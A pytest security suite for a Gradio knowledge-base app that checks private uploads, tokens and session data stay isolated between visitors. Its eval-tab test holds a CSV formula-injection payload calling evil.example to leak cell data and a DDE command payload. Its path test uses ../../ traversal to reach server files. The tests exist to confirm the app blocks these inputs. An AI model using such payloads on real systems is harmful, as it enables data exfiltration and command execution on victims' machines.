"""Issue 21, leaks and access: a second hostile round, as a visitor of a public Space would try it.

The real app on 127.0.0.1, driven with raw HTTP, Gradio's queue sent raw and MCP; a second session is another
session_hash. Each test asserts on what that visitor (or the disk, or the log) gets, not on what a handler says.
"""
from __future__ import annotations

import csv
import io
import json
import logging
import sqlite3
import threading
import time
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Iterator

import gradio.utils as gradio_utils
import httpx
import pandas as pd
import pytest

from kb.model import is_private
from kb.service import open_service
from kb.settings import load_settings
from tests import pdf_copies
from tests.demo_service import open_demo_service
from tests.live_server import LiveServer, build_app
from tests.reliability.conftest import LiveApp, assert_healthy
from tests.reliability.test_access import (KNOBS, SECRET, SECRET_DOC, SECRET_QUESTION, SECRET_TEXT, TOKEN, Queue,
                                           _documents, _error, _mcp)
from ui.mcp import register_tools

pytestmark = pytest.mark.reliability


@pytest.fixture(scope="module")
def app(tmp_path_factory) -> Iterator[LiveApp]:
    """The demo corpus served with ANNEX_API_TOKEN set and the MCP tools on."""
    with _serve(open_demo_service(tmp_path_factory.mktemp("store"), api_token=TOKEN, mcp_server=True)) as live:
        yield live


@contextmanager
def _serve(service: Any) -> Iterator[LiveApp]:
    try:
        with LiveServer(build_app(service, [lambda: register_tools(service)])) as server, \
                httpx.Client(base_url=server.url, timeout=120) as http:
            yield LiveApp(server.url, http, service)
    finally:
        service.close()


class Visitor(Queue):
    """A raw queue client with its own connection (so two can run at once) and its own session hash."""

    def __init__(self, app: LiveApp, session: str) -> None:
        super().__init__(app)
        self.http = httpx.Client(base_url=app.url, timeout=120)
        self.session = session
        self.config = self.http.get("/config").json()

    def send(self, api_name: str, data: list) -> dict[str, Any]:
        return self.call(api_name, data, self.session)

    def by_input(self, elem_id: str) -> str:
        """The api_name of the (first) event whose inputs hold the component with this elem_id (private events
        too): the compare question's submit, click and example buttons all run one function."""
        [component] = [c["id"] for c in self.config["components"] if c.get("props", {}).get("elem_id") == elem_id]
        dep = next(d for d in self.config["dependencies"] if component in d["inputs"] and d.get("api_name"))
        self.deps[dep["api_name"]] = dep
        return dep["api_name"]

    def upload_private(self, name: str = SECRET_DOC, text: str | bytes = SECRET_TEXT) -> dict[str, Any]:
        """Upload without the token (into this session's private library); the File value sent."""
        file = self.upload(name, text)
        assert self.send("run_ingest", [[file], "", "", ""])["success"] is True
        return file

    def eval_run(self, lines: list[dict], limit: int = 0) -> dict[str, Any]:
        """The 评测 tab's run over an uploaded question file."""
        body = "\n".join(json.dumps(x, ensure_ascii=False) for x in lines)
        return self.send("run_eval", [self.upload("q.jsonl", body), limit, None])


def _secret_hits(app: LiveApp) -> list[Any]:
    """What Chroma itself returns for the secret question, unfiltered: proof the private vectors are there."""
    return [h for h in app.service.stores.vectors.query(SECRET_QUESTION, 10) if is_private(h.library)]


@pytest.fixture(scope="module")
def secret_files(tmp_path_factory) -> dict[str, tuple[str, str | bytes]]:
    """The secret document as Markdown, as a PDF printed by Chromium (a text layer), and as an .xlsx (pandas)."""
    folder = tmp_path_factory.mktemp("secret")
    files: dict[str, tuple[str, str | bytes]] = {"md": (SECRET_DOC, SECRET_TEXT)}
    if pdf_copies.CHROMIUM:
        source = folder / SECRET_DOC
        source.write_text(SECRET_TEXT, encoding="utf-8")
        pdf = pdf_copies.chromium_pdf(source, folder / "私有值班预案.pdf")
        files["pdf"] = (pdf.name, pdf.read_bytes())
    sheet = folder / "私有值班表.xlsx"
    pd.DataFrame({"班次": ["夜班"], "值班暗号": [SECRET]}).to_excel(sheet, sheet_name="值班暗号", index=False)
    files["xlsx"] = (sheet.name, sheet.read_bytes())
    return files


@pytest.mark.parametrize("kind", ["md", "pdf", "xlsx"])
def test_a_private_upload_being_written_reaches_nobody_else(app, secret_files, kind):
    """Severe 1: the vectors land before the graph commits; meanwhile API, MCP and other sessions see nothing.
    Likewise for the formats' writers: a PDF's pages and a spreadsheet's rows."""
    if kind not in secret_files:
        pytest.skip("Debian's chromium is not installed (apt-get install chromium): no browser to print the PDF")
    name, content = secret_files[kind]
    graph = app.service.stores.graph
    entered, release = threading.Event(), threading.Event()
    commit = graph.upsert_documents

    def held(docs):  # the graph's commit waits: the state of a 45 MB upload for its ~100 s of writing
        entered.set()
        release.wait(120)
        return commit(docs)

    writer, other = Visitor(app, f"writer-{kind}"), Visitor(app, f"reader-{kind}")
    graph.upsert_documents = held
    thread = threading.Thread(target=writer.upload_private, args=(name, content))
    try:
        thread.start()
        assert entered.wait(60)
        assert _secret_hits(app), "the private vectors should be in Chroma while the graph waits"
        for body in ({"query": SECRET_QUESTION}, {"query": SECRET_QUESTION, "libraryIds": ["demo"]}):
            answer = app.http.post("/api/knowledge/chat", json=body)
            assert answer.status_code == 200 and SECRET not in answer.text
        assert SECRET not in _mcp(app.url, ("search_chunks", {"query": SECRET_QUESTION}),
                                  ("search_chunks", {"query": SECRET_QUESTION, "library": "demo"}))
        other.send("ask", [SECRET_QUESTION, None, None, None, *KNOBS])
        assert SECRET not in other.seen
    finally:
        release.set()
        thread.join(120)
        del graph.upsert_documents
    writer.send("ask", [SECRET_QUESTION, None, None, None, *KNOBS])  # its own session does find it, once written
    assert SECRET in writer.seen
    for stranger in (other, Visitor(app, f"late-{kind}")):  # and after the write, to another session, API, MCP
        stranger.send("ask", [SECRET_QUESTION, None, None, None, *KNOBS])
        assert SECRET not in stranger.seen
    assert SECRET not in app.http.post("/api/knowledge/chat", json={"query": SECRET_QUESTION}).text
    assert SECRET not in _mcp(app.url, ("search_chunks", {"query": SECRET_QUESTION}))
    app.service.sessions.end(f"writer-{kind}")  # the library goes in the background sweep
    assert not _eventually(lambda: _secret_hits(app), lambda hits: not hits)
    assert_healthy(app)


def test_with_no_shared_document_the_eval_tab_searches_nothing(tmp_path):
    """Severe 2: an empty corpus; one visitor's private document; another visitor runs 评测 and the CSV."""
    with _serve(open_service(load_settings(env={}, store_dir=tmp_path / "store", mcp_server=True))) as served:
        owner, stranger = Visitor(served, "owner-2"), Visitor(served, "stranger-2")
        owner.upload_private()
        questions = [{"doc": "", "question": SECRET_QUESTION, "attachments": [], "answer_contains": [],
                      "kind": "unanswerable"}]
        done = stranger.eval_run(questions)
        assert SECRET not in stranger.seen
        if done["success"]:  # a run that searched: its CSV keeps the answers the page hides
            assert SECRET not in stranger.http.get(f"/gradio_api/file={done['output']['data'][5]['path']}").text
        assert "upload a document first" in _error(done)  # nothing to search, said so
        answer = served.http.post("/api/knowledge/chat", json={"query": SECRET_QUESTION})
        assert answer.status_code == 404 and SECRET not in answer.text
        stranger.send("ask", [SECRET_QUESTION, None, None, None, *KNOBS])
        assert SECRET not in stranger.seen
        assert SECRET not in _mcp(served.url, ("search_chunks", {"query": SECRET_QUESTION}))
        owner.send("ask", [SECRET_QUESTION, None, None, None, *KNOBS])
        assert SECRET in owner.seen


def test_the_app_state_link_carries_no_token_and_writes_no_file(app):
    """Severe 3: no DeepLinkButton, and Gradio's /gradio_api/deep_link saves no session's state to disk."""
    admin = Visitor(app, "admin-3")
    started = time.time()
    assert not [c for c in admin.config["components"] if c.get("type") == "deeplinkbutton"]
    admin.upload_private()
    [doc] = [d for d in _documents(app).values() if d.library == app.service.sessions.own("admin-3")]
    admin.send("refresh", [])
    admin.send("show", [doc.id])  # a private document open in the page
    assert SECRET in admin.seen
    admin.send("run_ingest", [[admin.upload("共享新文档.md", "# 共享新文档\n\n正文。\n")], "extra-3", "", TOKEN])
    link = admin.http.get("/gradio_api/deep_link", params={"session_hash": "admin-3"})
    stored = Path(gradio_utils.get_upload_folder()) / "deep_links"
    texts = [p.read_text(encoding="utf-8", errors="replace") for p in stored.glob("*/state.json")
             if p.stat().st_mtime >= started - 1]  # written by this test
    assert not [t for t in texts if TOKEN in t or SECRET in t]
    page = admin.http.get("/", params={"deep_link": link.text.strip('"')})
    assert TOKEN not in page.text
    assert link.status_code == 404
    app.service.sessions.end("admin-3")


def test_a_shared_conversation_takes_turns_only_from_its_owner(app):
    """Lesser 12: its id over the API is a 403 and stores nothing; a raw queue turn from another session too."""
    owner = Visitor(app, "owner-12")
    conversation = _new_conversation(app, lambda: owner.send("ask", ["东岭街道有几艘冲锋舟？", None, None, None, *KNOBS]))
    before = len(app.service.history.messages(conversation))
    refused = app.http.post("/api/knowledge/chat", json={"query": "追加一句", "conversationId": conversation})
    assert refused.status_code == 403, refused.text
    assert refused.json()["detail"][0]["type"] == "read_only_conversation"
    stream = app.http.post("/api/knowledge/chat/stream", json={"query": "追加一句", "conversationId": conversation})
    assert stream.status_code == 403
    reader = Visitor(app, "reader-12")  # a shared link's reader sending the id (Gradio keeps gr.State server-side)
    reader.send("ask", ["追加一句", conversation, "someone-else", None, *KNOBS])
    assert len(app.service.history.messages(conversation)) == before
    owner.send("ask", ["存放在哪里？", None, None, None, *KNOBS])  # its owner's session continues it
    assert len(app.service.history.messages(conversation)) == before + 2
    api = app.http.post("/api/knowledge/chat", json={"query": "东岭街道有几艘冲锋舟？"}).json()["conversation_id"]
    again = app.http.post("/api/knowledge/chat", json={"query": "存放在哪里？", "conversationId": api})
    assert again.status_code == 200  # an API conversation is the API's: its id continues it


def test_the_eval_tab_confirms_no_private_name_stores_no_conversation_and_writes_no_formula(app, monkeypatch):
    """Lesser 13 and 14: another visitor's document is "not in the corpus" like a made-up one; nothing stored;
    a run is bounded; the CSV holds no formula."""
    import ui.evaluation.tab as eval_tab
    monkeypatch.setattr(eval_tab, "MAX_QUESTIONS", 2)  # the server is this process: its bound, made small
    owner, guesser = Visitor(app, "owner-13"), Visitor(app, "guesser-13")
    owner.upload_private()
    conversations = len(app.service.history.list_conversations(limit=10**6))
    line = {"question": SECRET_QUESTION, "answer_contains": [SECRET], "kind": "attachment"}
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
    done = guesser.eval_run([
        {**line, "doc": SECRET_DOC, "attachments": ["附件1"]},
        {**line, "doc": "编造的文档.md", "attachments": ["附件1"]},
        {"doc": "", "question": formula, "attachments": [], "answer_contains": [], "kind": "unanswerable"},
        {"doc": "", "question": "@SUM(1+1)*cmd|' /C calc'!A0", "attachments": [], "answer_contains": [],
         "kind": "unanswerable"},
        {"doc": "", "question": "第三道题不会运行", "attachments": [], "answer_contains": [], "kind": "unanswerable"},
    ])
    assert done["success"] is True, done
    status = done["output"]["data"][0]
    assert "第 1 行跳过" in status and "第 2 行跳过" in status and "2 道题 × 3 种模式" in status
    assert "第 5 行跳过：此后的 1 道题没有运行" in status and "第三道题" not in guesser.seen
    guessed, made_up = (s.split("：", 1)[1].replace("\\", "").replace(SECRET_DOC, "X").replace("编造的文档.md", "X")
                        for s in status.splitlines() if "行跳过" in s and "corpus" in s)
    assert guessed == made_up  # the same words for a stranger's document as for none
    assert SECRET not in guesser.seen
    assert len(app.service.history.list_conversations(limit=10**6)) == conversations
    files = [d.get("value", d) for d in done["output"]["data"] if isinstance(d, dict)]  # an update wraps its value
    csv_file = next(f for f in files if isinstance(f, dict) and str(f.get("path", "")).endswith(".csv"))
    text = guesser.http.get(f"/gradio_api/file={csv_file['path']}").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in c for c in cells) and any("cmd|" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    app.service.sessions.end("owner-13")


def _quoted_anywhere(app: LiveApp, text: str) -> bool:
    """Whether any stored message (of any conversation, listed or not) holds the text."""
    with sqlite3.connect(app.service.settings.store_dir / "history.sqlite3") as db:
        return bool(db.execute("SELECT count(*) FROM messages WHERE content LIKE ?", (f"%{text}%",)).fetchone()[0])


def test_the_compare_tab_keeps_no_turn_and_a_visitors_comparison_stays_theirs(app):
    """Lesser: a comparison is three answers shown once, not conversations — none stored, none listed; a visitor's
    comparison over their private document shows it to them alone, and leaves no quote behind."""
    owner, stranger = Visitor(app, "owner-compare"), Visitor(app, "stranger-compare")
    owner.upload_private()
    conversations = len(app.service.history.list_conversations(limit=10**6))
    compare = owner.by_input("compare-question")
    mine = owner.send(compare, [SECRET_QUESTION])
    assert mine["success"] is True, mine
    assert SECRET in json.dumps(mine["output"]["data"], ensure_ascii=False)  # the owner's own document answers
    theirs = stranger.send(compare, [SECRET_QUESTION])
    assert theirs["success"] is True and SECRET not in stranger.seen
    assert len(app.service.history.list_conversations(limit=10**6)) == conversations
    assert not _quoted_anywhere(app, SECRET)
    app.service.sessions.end("owner-compare")
    assert_healthy(app)


def test_a_deleted_private_upload_leaves_no_file_and_no_quote(app):
    """Lesser 15: after ingest Gradio's copy is not served; once the session ends its quotes are gone too."""
    visitor = Visitor(app, "visitor-15")
    file = visitor.upload_private()
    served = visitor.http.get(f"/gradio_api/file={file['path']}")
    assert served.status_code in (403, 404) and SECRET not in served.text
    assert not Path(file["path"]).exists()
    conversation = _new_conversation(app, lambda: visitor.send("ask", [SECRET_QUESTION, None, None, None, *KNOBS]))
    assert SECRET in visitor.seen
    assert SECRET in app.http.get(f"/api/knowledge/conversations/{conversation}").text
    library = app.service.sessions.own("visitor-15")
    with visitor.http.stream("GET", "/gradio_api/heartbeat/visitor-15") as beat:  # the tab closes
        next(beat.iter_lines())
    gone = _eventually(lambda: app.http.get(f"/api/knowledge/conversations/{conversation}"),
                       lambda r: r.status_code == 404)
    assert gone.status_code == 404 and SECRET not in gone.text
    assert library not in {d.library for d in _documents(app).values()}
    assert not _secret_hits(app)
    # deleted by its own session from the tab: the same
    again = Visitor(app, "visitor-15b")
    again.upload_private()
    conversation = _new_conversation(app, lambda: again.send("ask", [SECRET_QUESTION, None, None, None, *KNOBS]))
    [doc] = [d for d in _documents(app).values() if d.library == app.service.sessions.own("visitor-15b")]
    again.send("refresh", [])  # the tab's document list now offers it
    assert again.send("run_delete", [doc.id, True, ""])["success"] is True
    assert app.http.get(f"/api/knowledge/conversations/{conversation}").status_code == 404
    assert_healthy(app)


def _new_conversation(app: LiveApp, turn: Any) -> str:
    """The id of the one conversation turn() started."""
    before = {c.id for c in app.service.history.list_conversations(limit=10**6)}
    turn()
    [new] = [c.id for c in app.service.history.list_conversations(limit=10**6) if c.id not in before]
    return new


def _eventually(get: Any, done: Any, seconds: float = 10) -> Any:
    """get() until done(result) or the time is up; the last result."""
    deadline = time.monotonic() + seconds
    result = get()
    while not done(result) and time.monotonic() < deadline:
        time.sleep(0.05)
        result = get()
    return result


class _Lines(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.INFO)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


def test_session_hashes_stay_out_of_the_access_log_and_wrong_tokens_are_limited(app):
    """Lesser 16: the access log's request lines carry no session hash; the sixth wrong token in a minute is 429."""
    logger = logging.getLogger("uvicorn.access")
    lines, level = _Lines(), logger.level
    logger.addHandler(lines)
    logger.setLevel(logging.INFO)
    session = "f00dfacecafe16"
    try:
        Visitor(app, session).send("refresh", [])
        with app.http.stream("GET", f"/gradio_api/heartbeat/{session}") as beat:
            next(beat.iter_lines())
    finally:
        logger.removeHandler(lines)
        logger.setLevel(level)
    assert any("/gradio_api/queue/data" in line for line in lines.lines), lines.lines
    assert not [line for line in lines.lines if session in line]

    guard = app.service.tokens
    clock = guard.clock
    try:
        codes = [app.http.delete("/api/knowledge/documents/nope", headers={"Authorization": f"Bearer guess-{n}"})
                 .status_code for n in range(6)]
        assert codes == [403] * 5 + [429]
        right = app.http.delete("/api/knowledge/documents/nope", headers={"Authorization": f"Bearer {TOKEN}"})
        assert right.status_code == 429 and int(right.headers["Retry-After"]) > 0  # locked out: not even compared
        visitor = Visitor(app, "guesser-16")
        assert "口令错误次数太多" in _error(visitor.send("run_ingest", [[visitor.upload("x.md", "# x\n")], "demo", "",
                                                                     TOKEN]))
        guard.clock = lambda: clock() + guard.window + 1  # a minute later
        assert app.http.delete("/api/knowledge/documents/nope",
                               headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 404
    finally:
        guard.clock = clock
        guard._wrong.clear()
    assert not [d for d in _documents(app).values() if is_private(d.library)]
    assert_healthy(app)


def test_a_private_uploads_vectors_never_enter_the_passage_cache(tmp_path):
    """Lesser 15, the embedding cache: a shared document's passages are cached, a visitor's never are."""
    from kb.search.embedding_cache import CachedEmbedder
    from kb.search.hash_embedding import HashEmbedder
    from tests.recording_embedder import RecordsTexts

    class Cached(RecordsTexts, HashEmbedder):
        cache_key = "leak-test-hash"  # as e5 or an endpoint would be: worth caching

    service = open_service(load_settings(env={}, store_dir=tmp_path / "store"))
    try:
        vectors = service.stores.vectors
        inner = Cached()
        vectors.embedder, vectors._uncached = CachedEmbedder(inner, tmp_path / "cache.sqlite"), inner  # as e5 has
        cache = vectors.embedder.path
        for name, library in (("shared.md", "demo"), (SECRET_DOC, service.sessions.library_for_upload("v"))):
            path = tmp_path / name
            path.write_text(SECRET_TEXT.replace(SECRET, SECRET + name), encoding="utf-8")
            [result] = service.stores.ingestor.ingest([path], library)
            assert result.status == "ingested"
        with sqlite3.connect(cache) as db:
            rows = db.execute("SELECT COUNT(*) FROM vectors").fetchone()[0]
        chunks = {d.library: d.chunks for d in service.stores.graph.list_documents()}
        assert len(chunks) == 2 and rows == chunks["demo"]  # the shared document's chunks only
        hits = [h for h in vectors.query(SECRET_QUESTION, 10) if is_private(h.library)]
        assert hits  # the private vectors are stored and searched by their owner, just never cached
    finally:
        service.close()


@pytest.mark.parametrize("where", ["outside", "dotdot"])
def test_a_file_value_naming_a_server_path_reads_nothing_from_the_server(app, tmp_path, where):
    """A crafted File value is a path on the server: only Gradio's own uploads may be read, never a file it names.

    Gradio checks this itself only after launch(); mounted with mount_gradio_app, as app.py serves it, it copied
    the file into its cache and the visitor's private library held it.
    """
    server_file = tmp_path / "服务器上的文件.md"
    server_file.write_text(f"# 服务器上的文件\n\n值班暗号是{SECRET}。\n", encoding="utf-8")
    uploads = Path(gradio_utils.get_upload_folder())
    path = str(server_file) if where == "outside" else f"{uploads}/../../{server_file.relative_to('/')}"
    value = {"path": path, "orig_name": "r.md", "meta": {"_type": "gradio.FileData"}}
    before = set(_documents(app))
    visitor = Visitor(app, f"path-{where}")
    assert visitor.send("run_ingest", [[value], "", "", ""])["success"] is False
    assert visitor.send("run_ingest", [[value], "demo", "", TOKEN])["success"] is False  # the token reads no path either
    assert set(_documents(app)) == before
    questions = dict(value, path=path.replace(".md", ".jsonl"))
    Path(questions["path"]).write_text(json.dumps({"question": SECRET, "doc": SECRET}, ensure_ascii=False), "utf-8")
    assert visitor.send("run_eval", [questions, 0, None])["success"] is False
    assert SECRET not in visitor.seen
    visitor.send("ask", [SECRET_QUESTION, None, None, None, *KNOBS])
    assert SECRET not in visitor.seen and server_file.exists()
    assert_healthy(app)


def test_a_file_value_naming_a_url_downloads_nothing(app):
    """Gradio would download a File value's http(s) URL into its cache, past ANNEX_MAX_FILE_MB: refused unread."""
    value = {"path": "https://example.com/plan.md", "orig_name": "plan.md", "meta": {"_type": "gradio.FileData"}}
    before = set(_documents(app))
    visitor = Visitor(app, "url")
    refused = visitor.send("run_ingest", [[value], "", "", ""])
    assert "不是通过本页面上传的" in _error(refused) and refused["output"]["title"] == "出错了"  # a Chinese toast
    assert set(_documents(app)) == before
    assert_healthy(app)
